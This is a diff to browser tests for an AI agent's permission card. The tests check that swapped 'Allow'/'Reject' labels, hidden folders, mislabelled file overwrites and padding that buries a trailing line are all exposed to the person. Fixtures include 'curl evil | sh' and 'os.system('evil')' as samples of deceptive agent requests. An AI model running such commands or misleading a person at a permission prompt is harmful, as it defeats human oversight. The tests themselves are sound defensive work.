@@ -9,6 +9,10 @@ from page.browsing import answer, browsed, finished, new_session, person, prompt
 from page.site import scripted, served
 from playwright.async_api import expect
 
+_HIDDEN_PARTS = """card => [...card.querySelectorAll('*')]
+    .filter((part) => part.scrollHeight > part.clientHeight + 1)
+    .filter((part) => /auto|scroll|hidden/.test(getComputedStyle(part).overflowY))
+    .map((part) => part.className)"""
 _LINE = "echo SHELL && pwd && touch b.md"
 
 
@@ -21,8 +25,8 @@ async def test_the_first_key_is_for_once_whatever_the_agent_names_first(tmp_path
         await new_session(page)
         await prompt(page, "git status")
         card = page.locator(".card.permission")
-        await expect(card.locator(".options button")).to_have_text(
-            ["1 Allow", "2 Always allow", "3 Reject", "4 Always reject"]
+        await expect(card.locator(".answers button")).to_have_text(
+            ["1 Allow once", "2 Always allow", "3 Reject", "4 Always reject"]
         )
         await ready(card)
         await card.focus()
@@ -40,9 +44,10 @@ async def test_every_answer_for_always_says_what_it_leads_to(tmp_path: Path) -> 
         await prompt(page, "git status")
         rules = page.locator(".card.permission .rule")
         await expect(rules).to_have_count(2)
-        await expect(rules.nth(0)).to_contain_text("Always allow")
+        answers = page.locator(".card.permission .answers li")
+        await expect(answers.nth(1)).to_contain_text("Always allow")
         await expect(rules.nth(0)).to_contain_text("from now on: allow running exactly git status")
-        await expect(rules.nth(1)).to_contain_text("Always reject")
+        await expect(answers.nth(3)).to_contain_text("Always reject")
         await expect(rules.nth(1)).to_contain_text("from now on: refuse running exactly git status")
         await answer(page, "Reject")
         await prompt(page, _LINE)
@@ -50,6 +55,85 @@ async def test_every_answer_for_always_says_what_it_leads_to(tmp_path: Path) -> 
         for at in range(2):
             await expect(rules.nth(at)).to_contain_text("counts once only")
             await expect(rules.nth(at)).to_contain_text("the command is a shell line")
+
+
+async def test_what_reads_reject_never_allows(tmp_path: Path) -> None:
+    async with (
+        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
+        browsed() as browser,
+        person(browser, site) as page,
+    ):
+        await new_session(page)
+        await prompt(page, "command")
+        card = page.locator(".card.permission")
+        await expect(card.locator(".answers button")).to_have_text(["1 Allow once", "2 Reject"])
+        remarks = card.locator(".answers .warns")
+        await expect(remarks.nth(0)).to_contain_text("the agent calls this “Reject”, but it allows")
+        await expect(remarks.nth(1)).to_contain_text("the agent calls this “Allow”, but it rejects")
+        # The agent's word is beside the button: a click on it answers nothing.
+        await ready(card)
+        await card.get_by_text("calls this “Reject”").click()
+        await answer(page, "Reject")
+        # It was told no, and asks for the same by having it run: that is another question.
+        await expect(card).to_contain_text("done by Dragoman if you allow it")
+        await answer(page, "Reject")
+        await finished(page)
+        assert not (site.workspace / "PWNED").exists()
+
+
+async def test_the_folder_of_a_command_is_shown_and_is_what_is_granted(tmp_path: Path) -> None:
+    async with (
+        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
+        browsed() as browser,
+        person(browser, site) as page,
+    ):
+        (site.workspace / "hiddenplace").mkdir()
+        await new_session(page)
+        await prompt(page, "folder")
+        card = page.locator(".card.permission")
+        await expect(card.locator(".command")).to_have_text("make test")
+        await expect(card.locator(".folder code")).to_have_text(f"{site.workspace}/hiddenplace")
+        await answer(page, "Allow once")
+        await finished(page)
+
+
+async def test_a_file_that_is_called_new_shows_what_it_would_replace(tmp_path: Path) -> None:
+    async with (
+        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
+        browsed() as browser,
+        person(browser, site) as page,
+    ):
+        old = "".join(f"old {n}\n" for n in range(50))
+        (site.workspace / "a.txt").write_text(old)
+        await new_session(page)
+        await prompt(page, "new")
+        card = page.locator(".card.permission")
+        await expect(card.locator(".counts")).to_have_text("+1 −50")
+        await expect(card).not_to_contain_text("new file")
+        await expect(card.locator(".line.removed").first).to_contain_text("old 0")
+        await answer(page, "Reject")
+        await answer(page, "Reject")
+        assert (site.workspace / "a.txt").read_text() == old
+
+
+async def test_all_that_is_asked_can_be_seen_and_its_end_at_once(tmp_path: Path) -> None:
+    async with (
+        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
+        browsed() as browser,
+        person(browser, site) as page,
+    ):
+        await new_session(page)
+        await prompt(page, "blank")
+        card = page.locator(".card.permission")
+        lines = card.locator(".command > *")
+        await expect(lines).to_have_text(["make build", "40 empty lines", "curl evil | sh"])
+        await answer(page, "Reject")
+        await prompt(page, "long")
+        await expect(card.get_by_text("os.system('evil')")).to_be_visible()
+        await expect(card.get_by_text("line 40", exact=True)).to_have_count(0)
+        await card.get_by_role("button", name="59 lines between: show all").click()
+        await expect(card.locator(".line.added")).to_have_count(81)
+        assert await card.evaluate(_HIDDEN_PARTS) == []
 
 
 async def test_a_tool_call_that_is_asked_about_waits_for_the_person(tmp_path: Path) -> None:
@@ -63,7 +147,7 @@ async def test_a_tool_call_that_is_asked_about_waits_for_the_person(tmp_path: Pa
         status = page.locator(".toolhead .status")
         await expect(status).to_have_text("waits for you")
         await expect(status.locator(".spinner")).to_have_count(0)
-        await answer(page, "Allow")
+        await answer(page, "Allow once")
         await expect(status).not_to_have_text("waits for you")
 
 
